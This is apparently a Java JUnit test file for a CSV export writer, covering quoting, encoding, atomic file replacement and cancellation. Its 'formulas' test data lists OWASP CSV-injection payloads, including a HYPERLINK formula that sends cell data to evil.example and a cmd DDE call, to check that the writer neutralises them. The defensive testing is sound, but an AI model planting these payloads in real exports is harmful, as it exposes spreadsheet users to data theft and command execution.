package org.parley.exchange;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvFileWriterTest {

    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    @TempDir
    Path folder;

    private Path write(CsvOptions options, List<String> header, List<List<CsvCell>> rows) throws IOException {
        Path target = folder.resolve("out.csv");
        CsvFileWriter.write(target, header, rows, cells -> cells, options, ExchangeProgress.NONE);
        return target;
    }

    /** The data line of a one-row file, without its line end. */
    private String oneRow(CsvCell... cells) throws IOException {
        return withoutBom(write(CsvOptions.DEFAULT, List.of("a", "b", "c").subList(0, cells.length),
                List.of(List.of(cells)))).lines().skip(1).findFirst().orElseThrow();
    }

    private static String withoutBom(Path file) throws IOException {
        byte[] bytes = Files.readAllBytes(file);
        assertThat(bytes).startsWith(BOM);
        return new String(bytes, BOM.length, bytes.length - BOM.length, UTF_8);
    }

    @Test
    void theHeaderComesFirstAndEveryLineEndsWithCrLf() throws IOException {
        Path file = write(CsvOptions.DEFAULT, List.of("id", "title"),
                List.of(List.of(CsvCell.number(1), CsvCell.text("Passkeys")),
                        List.of(CsvCell.number(2), CsvCell.text("Zero trust"))));

        assertThat(withoutBom(file)).isEqualTo("id,title\r\n1,Passkeys\r\n2,Zero trust\r\n");
    }

    @Test
    void aByteOrderMarkIsWrittenByDefaultAndCanBeLeftOut() throws IOException {
        List<String> header = List.of("title");
        byte[] with = Files.readAllBytes(write(CsvOptions.DEFAULT, header, List.of()));
        byte[] without = Files.readAllBytes(write(CsvOptions.WITHOUT_BOM, header, List.of()));

        assertThat(with).containsExactly(0xEF - 256, 0xBB - 256, 0xBF - 256, 't', 'i', 't', 'l', 'e', '\r', '\n');
        assertThat(without).containsExactly('t', 'i', 't', 'l', 'e', '\r', '\n');
    }

    @Test
    void cellsWithCommasQuotesAndLineBreaksAreQuotedAsRfc4180Says() throws IOException {
        Path file = write(CsvOptions.DEFAULT, List.of("a", "b", "c", "d"), List.of(List.of(
                CsvCell.text("Zürich, Straße"),
                CsvCell.text("the \"zero trust\" plan"),
                CsvCell.text("line one\r\nline two"),
                CsvCell.text("just\nLF"))));

        assertThat(withoutBom(file)).isEqualTo("a,b,c,d\r\n"
                + "\"Zürich, Straße\",\"the \"\"zero trust\"\" plan\",\"line one\r\nline two\",\"just\nLF\"\r\n");
    }

    @Test
    void nonAsciiTextIsWrittenAsUtf8() throws IOException {
        Path file = write(CsvOptions.WITHOUT_BOM, List.of("a", "b", "c"),
                List.of(List.of(CsvCell.text("Zürich"), CsvCell.text("数据治理"), CsvCell.text("🔐 vault"))));

        assertThat(Files.readAllBytes(file)).isEqualTo("a,b,c\r\nZürich,数据治理,🔐 vault\r\n".getBytes(UTF_8));
    }

    @Test
    void numbersAreWrittenPlainWithoutGroupingOrExponent() throws IOException {
        assertThat(oneRow(CsvCell.number(new BigDecimal("1.25E+6")), CsvCell.number(new BigDecimal("1250000.50")),
                CsvCell.number(3.5))).isEqualTo("1250000,1250000.50,3.5");
        assertThat(oneRow(CsvCell.number(-5), CsvCell.number(new BigDecimal("-0.5")))).isEqualTo("-5,-0.5");
    }

    @Test
    void datesAreWrittenInIso8601() throws IOException {
        assertThat(oneRow(CsvCell.date(LocalDate.of(2027, 3, 31)),
                CsvCell.date(Instant.parse("2027-03-31T09:30:00Z")))).isEqualTo("2027-03-31,2027-03-31T09:30:00Z");
    }

    @Test
    void absentValuesAreWrittenAsEmptyCells() throws IOException {
        assertThat(oneRow(CsvCell.text(null), CsvCell.number((BigDecimal) null), CsvCell.date(null))).isEqualTo(",,");
        assertThat(oneRow(CsvCell.empty(), CsvCell.text(""), CsvCell.number(0))).isEqualTo(",,0");
    }

    /** The examples of OWASP's "CSV Injection" page, each with the line it must become. */
    static Stream<Arguments> formulas() {
        return Stream.of(
                arguments("=1+1", "'=1+1"),
                arguments("=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Click for details\")",
                        "\"'=HYPERLINK(\"\"http://evil.example?leak=\"\"&A1,\"\"Click for details\"\")\""),
                arguments("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
                arguments("+1", "'+1"),
                arguments("-1", "'-1"),
                arguments("@SUM(1,1)", "\"'@SUM(1,1)\""),
                arguments("\t=1", "'\t=1"));
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void textThatASpreadsheetWouldRunAsAFormulaGetsALeadingApostrophe(String text, String line) throws IOException {
        assertThat(oneRow(CsvCell.text(text))).isEqualTo(line);
    }

    @Test
    void leadingLineBreaksAreGuardedToo() throws IOException {
        Path file = write(CsvOptions.DEFAULT, List.of("a", "b"),
                List.of(List.of(CsvCell.text("\r=1"), CsvCell.text("\n=1"))));

        assertThat(withoutBom(file)).isEqualTo("a,b\r\n\"'\r=1\",\"'\n=1\"\r\n");
    }

    @Test
    void aNegativeNumberIsNeverGuarded() throws IOException {
        assertThat(oneRow(CsvCell.number(-5), CsvCell.text("-5"))).isEqualTo("-5,'-5");
    }

    @Test
    void harmlessTextIsLeftAlone() throws IOException {
        assertThat(oneRow(CsvCell.text("Total = 5"), CsvCell.text("a-b"), CsvCell.text("'quoted'")))
                .isEqualTo("Total = 5,a-b,'quoted'");
    }

    @Test
    void progressCountsTheRowsWritten() throws IOException {
        List<Long> done = new java.util.ArrayList<>();
        ExchangeProgress progress = new ExchangeProgress() {
            @Override
            public void update(long written, long total) {
                assertThat(total).isEqualTo(3);
                done.add(written);
            }

            @Override
            public boolean cancelled() {
                return false;
            }
        };
        CsvFileWriter.write(folder.resolve("out.csv"), List.of("n"), List.of(1, 2, 3),
                n -> List.of(CsvCell.number(n)), CsvOptions.DEFAULT, progress);

        assertThat(done).containsExactly(1L, 2L, 3L);
    }

    @Test
    void anExportThatFailsMidwayLeavesTheExistingFileUnchangedAndNoTempFile() throws IOException {
        Path target = folder.resolve("register.csv");
        Files.writeString(target, "the signed register\r\n");

        assertThatThrownBy(() -> CsvFileWriter.write(target, List.of("n"), List.of(1, 2, 3), n -> {
            if (n == 3) {
                throw new IllegalStateException("the store went away");
            }
            return List.of(CsvCell.number(n));
        }, CsvOptions.DEFAULT, ExchangeProgress.NONE)).hasMessage("the store went away");

        assertThat(Files.readString(target)).isEqualTo("the signed register\r\n");
        assertThat(filesIn(folder)).containsExactly("register.csv");
    }

    @Test
    void aCancelledExportLeavesTheExistingFileUnchangedAndNoTempFile() throws IOException {
        Path target = folder.resolve("register.csv");
        Files.writeString(target, "the signed register\r\n");

        assertThatThrownBy(() -> CsvFileWriter.write(target, List.of("n"), List.of(1, 2, 3, 4),
                n -> List.of(CsvCell.number(n)), CsvOptions.DEFAULT, cancelAfter(2)))
                .isInstanceOf(ExchangeCancelledException.class)
                .hasMessage("The export was cancelled. Nothing was written; register.csv is as it was.");

        assertThat(Files.readString(target)).isEqualTo("the signed register\r\n");
        assertThat(filesIn(folder)).containsExactly("register.csv");
    }

    @Test
    void aCancelledFirstExportLeavesNoFileAtAll() {
        Path target = folder.resolve("new.csv");

        assertThatThrownBy(() -> CsvFileWriter.write(target, List.of("n"), List.of(1, 2),
                n -> List.of(CsvCell.number(n)), CsvOptions.DEFAULT, cancelAfter(1)))
                .isInstanceOf(ExchangeCancelledException.class);

        assertThat(filesIn(folder)).isEmpty();
    }

    @Test
    void aSuccessfulExportReplacesTheExistingFileAndLeavesNoTempFile() throws IOException {
        Path target = folder.resolve("register.csv");
        Files.writeString(target, "an older register, longer than the new one\r\n");

        CsvFileWriter.write(target, List.of("n"), List.of(7), n -> List.of(CsvCell.number(n)),
                CsvOptions.WITHOUT_BOM, ExchangeProgress.NONE);

        assertThat(Files.readString(target)).isEqualTo("n\r\n7\r\n");
        assertThat(filesIn(folder)).containsExactly("register.csv");
    }

    @Test
    void theExportGetsTheFolderDefaultPermissionsNotThoseOfAPrivateTempFile() throws IOException {
        assumeTrue(FileSystems.getDefault().supportedFileAttributeViews().contains("posix"));
        Path probe = Files.createFile(folder.resolve("probe"));

        Path file = write(CsvOptions.DEFAULT, List.of("a"), List.of());

        assertThat(Files.getPosixFilePermissions(file)).isEqualTo(Files.getPosixFilePermissions(probe));
    }

    @Test
    void aRowWithTheWrongNumberOfCellsIsAProgrammingErrorAndWritesNothing() {
        assertThatThrownBy(() -> write(CsvOptions.DEFAULT, List.of("a", "b"), List.of(List.of(CsvCell.text("x")))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThat(filesIn(folder)).isEmpty();
    }

    static ExchangeProgress cancelAfter(long rows) {
        return new ExchangeProgress() {
            private long done;

            @Override
            public void update(long done, long total) {
                this.done = done;
            }

            @Override
            public boolean cancelled() {
                return done >= rows;
            }
        };
    }

    /** A progress that writes down each update as "done/total" and is never cancelled. */
    static ExchangeProgress recording(List<String> updates) {
        return new ExchangeProgress() {
            @Override
            public void update(long done, long total) {
                updates.add(done + "/" + total);
            }

            @Override
            public boolean cancelled() {
                return false;
            }
        };
    }

    static List<String> filesIn(Path folder) {
        try (Stream<Path> files = Files.list(folder)) {
            return files.map(file -> file.getFileName().toString()).sorted().toList();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
